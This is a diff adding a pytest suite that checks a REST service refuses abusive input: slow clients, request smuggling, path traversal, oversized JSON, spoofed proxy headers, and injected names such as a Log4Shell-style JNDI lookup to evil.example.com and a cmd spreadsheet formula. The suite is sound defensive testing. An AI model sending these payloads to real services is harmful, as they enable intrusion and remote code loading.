@@ -1,0 +1,238 @@
+"""Abuse: slow clients, huge and deep bodies, tricks with headers, paths and names."""
+
+from __future__ import annotations
+
+import json
+import logging
+import socket
+from contextlib import ExitStack, closing
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests.rest.running import Service, fresh_settings, running
+from tests.support.patience import PATIENCE_SECONDS, wait_until
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    import httpx
+
+pytestmark = pytest.mark.kafka
+JSON = {"Content-Type": "application/json"}
+# Clients of the impatient service send nothing more, so that only they wait for this time.
+_SECONDS = 0.5
+_CONNECTIONS = 5
+
+
+@pytest.fixture(scope="module")
+def impatient(kafka_bootstrap: str) -> Iterator[Service]:
+    """Run a service with short times for requests, and few connections."""
+    settings = fresh_settings(
+        kafka_bootstrap, request_timeout_seconds=_SECONDS, max_connections=_CONNECTIONS
+    )
+    with running(settings) as found:
+        found.client.close()
+        yield found
+
+
+def connect(service: Service) -> socket.socket:
+    url = service.client.base_url
+    return socket.create_connection((url.host, url.port), PATIENCE_SECONDS)
+
+
+def rest_of(connection: socket.socket) -> bytes:
+    """Return the bytes until the service closes the connection."""
+    found = b""
+    try:
+        while part := connection.recv(65_536):
+            found += part
+    except ConnectionError:
+        return found
+    return found
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        b"",
+        b"G",
+        b"GET /livez HTTP/1.1\r\n",
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
+    ],
+)
+def test_client_that_never_completes_a_header_is_cut_off(impatient: Service, sent: bytes) -> None:
+    with closing(connect(impatient)) as connection:
+        connection.sendall(sent)
+        assert rest_of(connection) == b""
+
+
+def test_client_that_never_completes_a_body_gets_408(impatient: Service) -> None:
+    with closing(connect(impatient)) as connection:
+        connection.sendall(
+            b"PUT /v1/streams/x HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
+            b'Content-Length: 1000\r\n\r\n{"topic":'
+        )
+        answer = rest_of(connection)
+    assert answer.startswith(b"HTTP/1.1 408 ")
+    assert b'"error_code":40801' in answer
+    assert b"the body must arrive within 0.5 s" in answer
+
+
+def test_body_that_nobody_reads_does_not_keep_a_connection(impatient: Service) -> None:
+    with closing(connect(impatient)) as connection:
+        connection.sendall(b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99\r\n\r\n{")
+        assert b'{"live":true}' in rest_of(connection)
+
+
+def test_further_connections_get_503(impatient: Service) -> None:
+    request = b"GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
+
+    def answers(status: bytes, idle: int) -> bool:
+        with ExitStack() as opened:
+            for _ in range(idle):
+                opened.enter_context(closing(connect(impatient)))
+            connection = opened.enter_context(closing(connect(impatient)))
+            connection.sendall(request)
+            return rest_of(connection).startswith(b"HTTP/1.1 " + status)
+
+    # Idle connections are cut off after a time, so that one attempt may come too late.
+    wait_until(lambda: answers(b"503", _CONNECTIONS))
+    wait_until(lambda: answers(b"200", 0))
+
+
+@pytest.mark.parametrize(
+    "request_line",
+    [
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX-Large: " + b"x" * 200_000,
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nHost : twice",
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 2",
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1",
+        b"GET /\x00livez HTTP/1.1\r\nHost: localhost",
+        b"GET / livez HTTP/1.1\r\nHost: localhost",
+        b"\x16\x03\x01\x02\x00\x01\x00",
+    ],
+)
+def test_request_that_is_not_valid_http_is_refused(service: Service, request_line: bytes) -> None:
+    with closing(connect(service)) as connection:
+        connection.sendall(request_line + b"\r\n\r\n")
+        assert rest_of(connection).startswith(b"HTTP/1.1 400 ")
+
+
+def test_second_request_cannot_hide_in_the_first(service: Service) -> None:
+    """Both lengths in one request: proxies and services could disagree on its end."""
+    smuggled = b"DELETE /v1/streams/x HTTP/1.1\r\nHost: localhost\r\n\r\n"
+    request = (
+        b"GET /livez HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
+        b"Content-Length: 4\r\nConnection: close\r\n\r\n0\r\n\r\n" + smuggled
+    )
+    with closing(connect(service)) as connection:
+        connection.sendall(request)
+        answer = rest_of(connection)
+    assert answer.count(b"HTTP/1.1 ") == 1
+
+
+@pytest.mark.parametrize(
+    ("body", "status", "error_code"),
+    [
+        (b"x" * 2_000_000, 413, 41301),
+        (b"[" * 500_000, 422, 42201),
+        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, 422, 42201),
+        (b"[" * 1000 + b"]" * 1000, 422, 42201),
+        (b"[" + b"1," * 100_000 + b"1]", 422, 42201),
+        (b'{"topic": ' + b"9" * 500_000 + b"}", 422, 42202),
+        (b'{"topic": 1e999999999}', 422, 42202),
+        (b'{"topic": "\\ud800"}', 422, 42201),
+        (b"\xff\xfe{}", 422, 42201),
+    ],
+)
+def test_huge_and_deep_bodies_are_refused(
+    client: httpx.Client, body: bytes, status: int, error_code: int
+) -> None:
+    answer = client.put("/v1/streams/x", content=body, headers=JSON)
+    assert (answer.status_code, answer.json()["error_code"]) == (status, error_code)
+
+
+def test_body_without_a_length_is_limited_too(client: httpx.Client) -> None:
+    def parts() -> Iterator[bytes]:
+        for _ in range(100):
+            yield b"x" * 65_536
+
+    answer = client.put("/v1/streams/x", content=parts(), headers=JSON)
+    assert (answer.status_code, answer.json()["error_code"]) == (413, 41301)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/streams/..%2f..%2fetc%2fpasswd",
+        "/v1/streams/../../etc/passwd",
+        "/v1//streams",
+        "/v1/streams/",
+        "/v1/streams/x%00",
+        "/v1/streams/x%0d%0aSet-Cookie:%20a=b",
+        "/v1/streams/%f0%9f%92%a3",
+        "/V1/streams",
+        "/v1/streams/x;role=admin",
+        "/static/../../../etc/passwd",
+    ],
+)
+def test_tricks_with_paths_find_nothing(client: httpx.Client, path: str) -> None:
+    answer = client.get(path)
+    assert answer.status_code in {404, 422}
+    assert "set-cookie" not in answer.headers
+    assert "root:" not in answer.text
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"X-HTTP-Method-Override": "DELETE"},
+        {"X-Original-URL": "/v1/streams/kept"},
+        {"X-Forwarded-For": "127.0.0.1"},
+        {"X-Forwarded-Host": "evil.example.com"},
+        {"X-Forwarded-Prefix": "/v1"},
+        {"Range": "bytes=0-1"},
+        {"Accept": "x" * 10_000},
+        {"If-None-Match": '"' * 1000},
+        {"Upgrade": "websocket", "Connection": "Upgrade"},
+        {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings"},
+    ],
+)
+def test_headers_of_proxies_change_nothing(client: httpx.Client, headers: dict[str, str]) -> None:
+    answer = client.get("/v1/streams", headers=headers)
+    assert answer.status_code == 200
+    assert "evil" not in answer.text
+
+
+INJECTED = [
+    "x\nERROR forged line",
+    "x\r\n2026-01-01 INFO forged",
+    "\x1b[2J\x1b[31mred",
+    '=cmd|"/c calc"!A1',
+    "@SUM(1+1)",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil.example.com/a}",
+    "%s%n%x",
+]
+
+
+@pytest.mark.parametrize("name", INJECTED)
+def test_names_cannot_forge_lines_or_formulas(
+    client: httpx.Client, name: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    document: dict[str, Any] = {"topic": "t", "max_uncertainty": "1s", "max_delay": "1s"}
+    encoded = "".join(f"%{byte:02x}" for byte in name.encode())
+    for answer in (
+        client.put(f"/v1/streams/{encoded}", json=document),
+        client.put("/v1/streams/ok", json=document | {"topic": name}),
+        client.put("/v1/config", json={"resources": [{"kind": "stream", "name": name}]}),
+        client.get("/v1/alarms", params={"after": name}),
+    ):
+        # Refused as a name; a path with a slash does not exist.
+        assert answer.status_code in {404, 422}
+        assert answer.headers["content-type"] == "application/problem+json"
+        json.loads(answer.text)
+    logged = [it for it in caplog.records if it.name.startswith("service")]
+    assert not [it for it in logged if any(ord(letter) < 32 for letter in it.getMessage())]
